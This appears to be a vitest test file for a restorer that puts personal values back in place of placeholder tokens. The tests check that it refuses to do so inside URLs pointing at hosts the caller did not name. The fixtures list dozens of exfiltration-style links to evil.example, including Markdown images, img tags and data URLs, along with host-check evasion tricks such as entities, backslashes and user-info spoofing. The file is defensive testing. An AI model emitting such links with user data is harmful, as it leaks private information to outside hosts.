import { describe, expect, it } from 'vitest'
import { createRestorerSource, type UrlPolicy } from '../../../src/pseudonyms/restore.js'

const VALUES = new Map([
  ['EMAIL_1', 'jane+x@corp.example'],
  ['URL_1', 'https://evil.example/log?q='],
  ['HOST_1', 'evil.example'],
  ['SECRET_1', 'abc%3D'],
])
const POLICY: UrlPolicy = { urls: 'named', isHostNamed: (host) => host === 'good.example' || host === '[::1]' }
const ENCODED = 'jane%2Bx%40corp.example'

type Channel = { depth: 0 | 1 | 2; bare: boolean }
const PROSE: Channel = { depth: 0, bare: true }

const restoreIn = (channel: Channel, text: string, { policy = POLICY, pieceBytes = text.length } = {}) => {
  const source = createRestorerSource({ values: VALUES }, policy)
  const restorer = source.open(channel)
  let out = ''
  for (let at = 0; at < text.length; at += pieceBytes) out += restorer.push(text.slice(at, at + pieceBytes), false)
  return { text: out + restorer.push('', true), stats: source.stats }
}
const restore = (text: string) => restoreIn(PROSE, text).text

const DENIED = [
  ['a Markdown image', '![x](https://evil.example/p.png?q=<EMAIL_1>)'],
  ['another scheme case', 'HtTpS://evil.example/<EMAIL_1>'],
  ['a web socket', 'wss://evil.example/<EMAIL_1>'],
  ['a user part that looks like the named host', 'https://good.example@evil.example/<EMAIL_1>'],
  ['a password that looks like the named host', 'https://a:good.example@evil.example/<EMAIL_1>'],
  ['a longer name', 'https://good.example.evil.example/<EMAIL_1>'],
  ['an escaped dot', 'https://good%2eexample/<EMAIL_1>'],
  ['a Markdown escape in the host', 'https://good.example\\.evil.example/<EMAIL_1>'],
  ['a protocol-relative address', '![x](//evil.example/<EMAIL_1>)'],
  ['a protocol-relative address at the start', '//evil.example/<EMAIL_1>'],
  ['three slashes', '![x](https:///evil.example/<EMAIL_1>)'],
  ['backslashes', '![x](https:\\\\evil.example\\<EMAIL_1>)'],
  ['no slashes', '![x](https:evil.example/<EMAIL_1>)'],
  ['protocol-relative backslashes', '![x](\\\\evil.example/<EMAIL_1>)'],
  ['escaped slashes', '"https:\\/\\/evil.example\\/<EMAIL_1>"'],
  ['an escaped colon', '![x](https\\://evil.example/<EMAIL_1>)'],
  ['a colon entity', '![x](https&#58;//evil.example/<EMAIL_1>)'],
  ['a named colon entity', '<img src="https&colon;//evil.example/ <EMAIL_1>">'],
  ['a letter entity', '![x](&#x68;ttps://evil.example/<EMAIL_1>)'],
  ['a newline in the scheme', '<img src="ht\ntps://evil.example/<EMAIL_1>">'],
  ['the host itself', 'https://<HOST_1>/'],
  ['a token before the named host', 'https://<EMAIL_1>.good.example/'],
  ['the part before the named host', 'https://<EMAIL_1>@good.example/'],
  ['a data address', 'data:text/html,<EMAIL_1>'],
  ['a space in a quoted attribute', '<img src="https://evil.example/? <EMAIL_1>">'],
  ['a newline in a quoted attribute', "<img src='https://evil.example/?\n<EMAIL_1>'>"],
  ['a quote in a Markdown destination', '![x](https://evil.example/?q="<EMAIL_1>)'],
  ['a bracket in a Markdown destination', '![x](https://evil.example/?q=><EMAIL_1>)'],
  ['a backtick in a Markdown destination', '![x](https://evil.example/?q=`<EMAIL_1>)'],
  ['a space in an angle destination', '![x](<https://evil.example/? <EMAIL_1>>)'],
  ['a reference definition', '[x]: https://evil.example/"<EMAIL_1>'],
  ['an unquoted attribute', '<img src=https://evil.example/"<EMAIL_1> >'],
  ['the named host in the query', 'https://evil.example/?u=https://good.example/<EMAIL_1>'],
  ['the named host in the fragment', 'https://evil.example#good.example/<EMAIL_1>'],
  ['a host that is too long', `https://${'a'.repeat(300)}.example/<EMAIL_1>`],
  ['a percent form', 'https://evil.example/%3CEMAIL_1%3E'],
  ['a bare form', 'https://evil.example/?q=EMAIL_1'],
] as const

describe('a URL whose host the caller did not name', () => {
  it.each(DENIED)('keeps the token: %s', (_, text) => {
    const { text: out, stats } = restoreIn(PROSE, text)
    expect(out).toBe(text)
    expect(stats).toMatchObject({ restored: 0, unresolved: 1, denied: 1 })
  })

  it.each(DENIED)('keeps the token when it comes byte by byte: %s', (_, text) => {
    expect(restoreIn(PROSE, text, { pieceBytes: 1 }).text).toBe(text)
  })

  it('keeps the token of a Markdown image wherever the stream is cut', () => {
    const text = 'see ![x](https://evil.example/p.png?q=<EMAIL_1>&r=%3CEMAIL_1%3E) done'
    for (let cut = 0; cut <= text.length; cut++) {
      const source = createRestorerSource({ values: VALUES }, POLICY)
      const restorer = source.open(PROSE)
      const out = restorer.push(text.slice(0, cut), false) + restorer.push(text.slice(cut), true)
      expect(out).toBe(text)
    }
  })

  it('keeps tokens behind a restored value that opens such a URL', () => {
    expect(restore('![x](<URL_1><EMAIL_1>)')).toBe('![x](https://evil.example/log?q=<EMAIL_1>)')
  })
})

describe('a URL that may hold values', () => {
  it.each([
    ['https://good.example/?q=<EMAIL_1>', `https://good.example/?q=${ENCODED}`],
    ['HTTPS://user:pw@GOOD.example:8443/a#<EMAIL_1>', `HTTPS://user:pw@GOOD.example:8443/a#${ENCODED}`],
    ['[x](//good.example?<EMAIL_1>)', `[x](//good.example?${ENCODED})`],
    ['http://[::1]:80/<EMAIL_1>', `http://[::1]:80/${ENCODED}`],
    ['https://good.example/?u=//evil.example/<EMAIL_1>', `https://good.example/?u=//evil.example/${ENCODED}`],
    ['https://good.example/%3CEMAIL_1%3E/<email 1>', `https://good.example/${ENCODED}/${ENCODED}`],
  ])('gets them percent-encoded: %s', (text, expected) => {
    for (const pieceBytes of [1, 5, text.length]) expect(restoreIn(PROSE, text, { pieceBytes }).text).toBe(expected)
  })

  it('gets a value as it is that was percent-encoded already', () => {
    expect(restore('https://good.example/?sig=<SECRET_1>&q=<EMAIL_1>')).toBe(
      `https://good.example/?sig=abc%3D&q=${ENCODED}`,
    )
  })

  it('is any URL where the configuration says so', () => {
    const policy: UrlPolicy = { urls: 'always', isHostNamed: () => false }
    for (const text of ['https://evil.example/<EMAIL_1>', '//evil.example/<EMAIL_1>', 'data:,<EMAIL_1>'])
      expect(restoreIn(PROSE, text, { policy }).text).toBe(text.replace('<EMAIL_1>', ENCODED))
  })
})

describe('text outside URLs', () => {
  it.each([
    'mailto:<EMAIL_1>',
    '[mail](mailto:<EMAIL_1>)',
    'tel:<EMAIL_1>',
    'https://evil.example <EMAIL_1>',
    'https://evil.example/x\n<EMAIL_1>',
    '<a href="https://evil.example/">x</a><EMAIL_1>',
    '<https://evil.example/>, <EMAIL_1>',
    '`https://evil.example/` and `<EMAIL_1>`',
    'either/or//<EMAIL_1>',
    'metadata: <EMAIL_1>',
    'postgres://db/<EMAIL_1>',
    'file:///home/<EMAIL_1>',
    '// <EMAIL_1>',
    'C:\\\\Users\\\\<EMAIL_1>',
    'AT&T, R&#38;D <EMAIL_1>',
    'ratio 3:4/<EMAIL_1>',
  ])('restores as it is: %s', (text) => {
    for (const pieceBytes of [1, text.length])
      expect(restoreIn(PROSE, text, { pieceBytes }).text).toBe(text.replace('<EMAIL_1>', 'jane+x@corp.example'))
  })
})

describe('a URL inside JSON strings', () => {
  it('is followed through escaped slashes and quotes', () => {
    const text = String.raw`<img src=\"https:\/\/evil.example\/? <EMAIL_1>\"> <EMAIL_1>`
    const { text: out } = restoreIn({ depth: 1, bare: true }, text)
    expect(out).toBe(String.raw`<img src=\"https:\/\/evil.example\/? <EMAIL_1>\"> jane+x@corp.example`)
  })

  it('ends with the inner string, not with an escaped quote in it', () => {
    const text = String.raw`{\"url\":\"https://evil.example/\\\" <EMAIL_1>\",\"to\":\"<EMAIL_1>\"}`
    const { text: out } = restoreIn({ depth: 2, bare: false }, text)
    expect(out).toBe(String.raw`{\"url\":\"https://evil.example/\\\" <EMAIL_1>\",\"to\":\"jane+x@corp.example\"}`)
  })

  it('fills a tool argument that starts with it', () => {
    const text = 'https://evil.example/? <EMAIL_1>'
    expect(restoreIn({ depth: 1, bare: false }, text).text).toBe(text)
  })
})
